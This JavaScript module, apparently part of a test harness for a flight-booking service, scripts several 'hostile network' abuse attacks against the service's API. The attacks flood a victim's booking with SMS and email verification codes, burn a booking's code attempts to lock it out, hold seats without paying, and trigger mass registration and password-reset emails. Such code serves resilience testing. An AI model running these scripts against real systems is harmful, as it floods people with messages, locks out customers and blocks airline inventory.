/**
 * Attacks of hostile networks, which send the next request as soon as the previous one has a response,
 * until `isOver`. A rejection does not stop them.
 */
import { awaited, buy, codeIn, Refused, registrationOf } from "../common/purchase.mjs";

/** Number of passengers of a hold, large so that few calls hold many units. */
export const PARTY = 5;
/** Fare that can be changed free of charge for a long time. */
const FREE = "FF";

/** Wraps a caller so that it continues after a rejection. */
const stubborn =
  (call) =>
  (...parameters) =>
    call(...parameters).catch((error) => {
      if (!(error instanceof Refused)) throw error;
      return {};
    });

/**
 * Changes a booking, to the same flight at first, and requests codes that open this booking and the
 * victim's. The booking has the victim's phone number, because a payment does not verify contact details.
 * `from` returns a caller of the network with additional headers.
 */
export async function pester(from, { form, paid, victim, outbox }, isOver) {
  const { session_unique, pnr } = await buy(from(), "flight", form, { paid, fare: FREE });
  const call = stubborn(from());
  const booking = `/flight/booking/${session_unique}`;
  await call("POST", `${booking}/manage/`, { channel: "email" });
  const code = await awaited("the code", async () => {
    const letters = await outbox.messagesTo(paid.email);
    // The letter with the ticket has attachments.
    return codeIn(letters.find(({ text, attachments }) => text.includes(pnr) && attachments.length === 0));
  });
  const { manage_token } = await from()("POST", `${booking}/manage/verify/`, { code });
  const managing = stubborn(from({ "x-manage-token": manage_token }));
  while (!isOver()) {
    const { lines = [] } = await call("GET", `${booking}/`);
    const line_ids = lines.filter(({ state }) => state === "active").map(({ id }) => id);
    const wish = { line_ids, departure_date: form.departure_date };
    const { search: offers = [] } = await managing("POST", `${booking}/change/search/`, wish);
    for (const { product_id } of offers) {
      await managing("POST", `${booking}/change/select/`, { line_ids, product_id, fare_code: FREE });
      for (const target of [session_unique, victim]) {
        for (const channel of ["sms", "email"])
          await call("POST", `/flight/booking/${target}/manage/`, { channel });
      }
      if (isOver()) return;
    }
  }
}

/** Enters wrong codes at a booking until the tries of its code are used up. */
export async function guess(anyone, booking, right) {
  const call = stubborn(anyone);
  for (let wrong = 0; wrong < 6; wrong += 1) {
    const code = `${(Number(right) + 1 + wrong) % 1_000_000}`.padStart(6, "0");
    await call("POST", `${booking}verify/`, { code });
  }
}

/** Holds units of one departure after the other, as many as possible, and pays for none. */
export async function hoard(anyone, forms, isOver) {
  const call = stubborn(anyone);
  while (!isOver()) {
    for (const form of forms) {
      const { form_data } = await call("POST", "/flight/gateway/search/", { ...form, adult_count: PARTY });
      if (!form_data) continue;
      const results = `/flight/gateway/results/?option=${encodeURIComponent(form_data.id)}`;
      const { search: items = [], as_of } = await call("GET", results);
      for (const { product_id } of items) {
        const choice = { option: form_data.id, as_of, product_ids: [product_id], alternative_prices: [null] };
        let isGiven = true;
        while (isGiven && !isOver()) {
          const { status } = await call("POST", "/flight/gateway/search/select/", choice);
          isGiven = status === true;
        }
      }
    }
  }
}

/** Triggers letters to invented mailboxes, and to the mailbox of a member. */
export async function write(anyone, { invented, user }, isOver) {
  const call = stubborn(anyone);
  for (let at = 0; !isOver(); at += 1) {
    const email = invented(at);
    await call("POST", "/auth/register/", registrationOf(email.split("@")[0], email));
    await call("POST", "/auth/activate/resend/", { email });
    await call("POST", "/auth/forget-password/", { email: user });
  }
}
